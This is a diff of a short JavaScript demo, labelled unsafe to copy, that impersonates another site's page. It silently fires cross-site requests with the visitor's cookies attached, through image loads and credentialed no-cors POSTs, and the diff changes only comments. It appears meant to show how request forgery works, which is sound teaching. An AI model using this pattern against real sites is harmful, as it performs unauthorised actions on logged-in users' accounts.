@@ -1,14 +1,14 @@
-// UNSAFE TO COPY. It plays the page of another site: it sends what any site can make a visitor's browser send.
+// UNSAFE TO COPY. It acts as another site's page: it sends requests that any site can make a visitor's browser send.
 
-const PAUSE_MS = 600; // so that it can be seen
+const PAUSE_MS = 600; // slow enough to watch
 
 const move = JSON.parse(document.getElementById("move").textContent);
 
-/** What needs no window of its own: requests whose answers this page may not read, and does not need to. */
+/** Requests without a window: this page cannot read their answers, and does not need them. */
 async function inTheBackground({ url, text }) {
   const image = new Image();
   image.src = url;
-  await fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ text }) }).catch(() => {}); // sent, and not shown
+  await fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ text }) }).catch(() => {}); // sent; the answer is not readable
 }
 
 await Promise.all(move.before.map(inTheBackground));
